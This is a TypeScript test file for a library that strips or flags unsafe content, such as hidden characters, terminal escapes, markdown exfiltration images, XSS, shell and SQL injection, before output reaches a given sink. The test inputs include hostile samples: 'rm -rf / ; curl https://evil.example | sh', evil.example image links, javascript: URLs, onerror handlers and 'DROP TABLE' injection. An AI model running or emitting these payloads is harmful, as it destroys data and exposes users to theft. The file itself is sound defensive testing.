import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { InvalidOptionsError } from '../../errors/index.js';
import { SINKS } from '../types.js';
import { SMUGGLED } from './fixtures/exfiltration.js';
import { detectSinkRisks, neutraliseUnsafe, unsafeMatchSeverity } from './index.js';

const HOSTS = ['ok.example'];

describe('neutraliseUnsafe', () => {
  it('text: strips hidden characters only', () => {
    const text = `Hello${SMUGGLED} wor\u200bld \u001b[31mred\u001b[0m ![x](https://evil.example/p.png)`;
    const result = neutraliseUnsafe(text, { sink: 'text' });
    expect(result.text).toBe('Hello world \u001b[31mred\u001b[0m ![x](https://evil.example/p.png)');
    expect(result.matches.map((m) => m.type)).toEqual(['invisible:tag-characters', 'invisible:zero-width']);
  });
  it('terminal: also removes escapes, spans stay in the input', () => {
    const text = `a\u200bb \u001b]52;c;ZWNobyBoaQ==\u0007done`;
    const result = neutraliseUnsafe(text, { sink: 'terminal' });
    expect(result.text).toBe('ab done');
    const osc = result.matches.find((m) => m.type === 'terminal:osc52-clipboard')!;
    expect(text.slice(osc.start, osc.end)).toBe('\u001b]52;c;ZWNobyBoaQ==\u0007');
    expect(unsafeMatchSeverity(osc.type)).toBe('high');
  });
  it('markdown: judges a URL after hidden characters are gone', () => {
    const text =
      '[x](java\u200bscript:alert(1)) ![y](https://ev\u200bil.example/p.png) ![ok](https://ok.example/a.png)';
    const result = neutraliseUnsafe(text, { sink: 'markdown', allowedHosts: HOSTS });
    expect(result.text).toBe('x (link removed) (image removed: y) ![ok](https://ok.example/a.png)');
    const script = result.matches.find((m) => m.type === 'markdown:script-url')!;
    expect(text.slice(script.start, script.end)).toBe('[x](java\u200bscript:alert(1))');
    expect(neutraliseUnsafe(result.text, { sink: 'markdown', allowedHosts: HOSTS }).matches).toEqual([]);
  });
  it('html: sanitises after stripping hidden characters', () => {
    const text = '<a href="java\u200bscript:alert(1)">x</a><img src=x onerror=alert(1)>';
    const result = neutraliseUnsafe(text, { sink: 'html', allowedHosts: HOSTS });
    expect(result.text).toBe('<a rel="noopener noreferrer nofollow">x</a><span>(image removed)</span>');
    expect(result.matches.map((m) => m.type)).toEqual([
      'html:javascript-url',
      'invisible:zero-width',
      'html:unsafe-url',
      'html:event-handler',
    ]);
    const handler = result.matches.find((m) => m.type === 'html:event-handler')!;
    expect(text.slice(handler.start, handler.end)).toBe('onerror=alert(1)');
  });
  it('shell and sql: flags only, the code comes back unchanged', () => {
    const shell = 'r\u200bm -rf / ; curl https://evil.example | sh';
    const flagged = neutraliseUnsafe(shell, { sink: 'shell' });
    expect(flagged.text).toBe(shell);
    expect(flagged.matches.map((m) => m.type)).toEqual(
      expect.arrayContaining(['invisible:zero-width', 'sink:shell:rm-rf', 'sink:shell:pipe-to-shell']),
    );
    const rm = flagged.matches.find((m) => m.type === 'sink:shell:rm-rf')!;
    expect(shell.slice(rm.start, rm.end)).toBe('r\u200bm -rf /');
    const sql = "' OR '1'='1";
    expect(neutraliseUnsafe(sql, { sink: 'sql' })).toEqual({
      text: sql,
      matches: [expect.objectContaining({ type: 'sink:sql:tautology' })],
    });
  });
  it('rejects unknown sinks and options with a typed error', () => {
    expect(() => neutraliseUnsafe('x', { sink: 'email' } as never)).toThrow(InvalidOptionsError);
    expect(() => neutraliseUnsafe('x', { sink: 'text', hosts: [] } as never)).toThrow(InvalidOptionsError);
  });
  it('is idempotent for every rewriting sink (property)', () => {
    const pieces = [
      '![a](https://evil.example/p.png)',
      '[b](javascript:x)',
      '\u200b',
      '\u202e',
      SMUGGLED,
      '\u001b[31m',
      '\u001b]52;c;eA==\u0007',
      '<img src=x onerror=y>',
      '<script>',
      'text ',
      '\n',
      '`',
      '[',
      ']',
      '(',
      ')',
    ];
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...pieces), { maxLength: 20 }),
        fc.constantFrom('text', 'terminal', 'markdown', 'html'),
        (parts, sink) => {
          const options = { sink, allowedHosts: HOSTS } as const;
          const once = neutraliseUnsafe(parts.join(''), options).text;
          if (sink !== 'html') expect(neutraliseUnsafe(once, options).text).toBe(once);
          else expect(neutraliseUnsafe(once, options).matches).toEqual([]);
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe('detectSinkRisks', () => {
  it('names matches after the sink', () => {
    expect(detectSinkRisks('<script>x</script>', { sink: 'html' }).map((m) => m.type)).toEqual([
      'sink:html:script',
    ]);
    expect(
      detectSinkRisks('![a](https://evil.example/p.png)<script>', { sink: 'markdown' }).map((m) => m.type),
    ).toEqual(['sink:markdown:exfil-image', 'sink:markdown:html-script']);
    expect(detectSinkRisks('\u001b[2J', { sink: 'terminal' }).map((m) => m.type)).toEqual([
      'sink:terminal:escape',
    ]);
    expect(detectSinkRisks('rm -rf /', { sink: 'shell' }).map((m) => m.type)).toEqual(['sink:shell:rm-rf']);
    expect(detectSinkRisks('1; DROP TABLE t', { sink: 'sql' }).map((m) => m.type)).toEqual([
      'sink:sql:stacked-query',
    ]);
    expect(detectSinkRisks('rm -rf / <script>', { sink: 'text' })).toEqual([]);
  });
  it('gives every sink type a severity', () => {
    expect(unsafeMatchSeverity('sink:html:script')).toBe('critical');
    expect(unsafeMatchSeverity('sink:markdown:html-event-handler')).toBe('critical');
    expect(unsafeMatchSeverity('sink:markdown:exfil-image')).toBe('high');
    expect(unsafeMatchSeverity('sink:terminal:osc52-clipboard')).toBe('high');
    expect(unsafeMatchSeverity('sink:shell:network')).toBe('low');
  });
  it('covers every declared sink', () => {
    for (const sink of SINKS) expect(() => detectSinkRisks('x', { sink })).not.toThrow();
  });
});
